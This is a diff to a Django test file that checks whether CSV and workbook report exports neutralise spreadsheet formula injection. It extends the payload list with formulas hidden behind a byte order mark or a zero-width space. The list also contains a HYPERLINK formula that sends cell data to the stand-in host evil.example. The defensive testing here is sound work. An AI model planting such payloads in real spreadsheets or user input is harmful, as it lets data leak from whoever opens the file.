@@ -10,6 +10,9 @@ from tests.reports.readers import csv_rows, report_url, sheet_rows, workbook
 
 pytestmark = pytest.mark.django_db
 
+# What the exports must never begin a cell with, after what shows as nothing.
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+INVISIBLE = "\ufeff\u200b"
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
     "+1",
@@ -17,6 +20,8 @@ PAYLOADS = [
     "@SUM(A1:A9)",
     "\t=1+1",
     "\r=1+1",
+    "\ufeff=1+1",  # after a byte order mark, as a survey's cell can arrive
+    "\u200b@SUM(A1:A9)",
 ]
 
 
@@ -56,7 +61,7 @@ def test_csv_cells_never_start_a_formula(admin_reader, payload_comments):
     assert "'=HYPERLINK" in {row["Respondent"][:11] for row in rows}
     for row in rows:
         for value in row.values():
-            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
+            assert not value.lstrip(INVISIBLE).startswith(FORMULA_PREFIXES)
 
 
 def test_workbook_cells_hold_text_never_formulas(admin_reader, payload_comments):
@@ -69,4 +74,4 @@ def test_workbook_cells_hold_text_never_formulas(admin_reader, payload_comments)
             for cell in row:
                 assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                 if isinstance(cell.value, str):
-                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
+                    assert not cell.value.lstrip(INVISIBLE).startswith(FORMULA_PREFIXES)
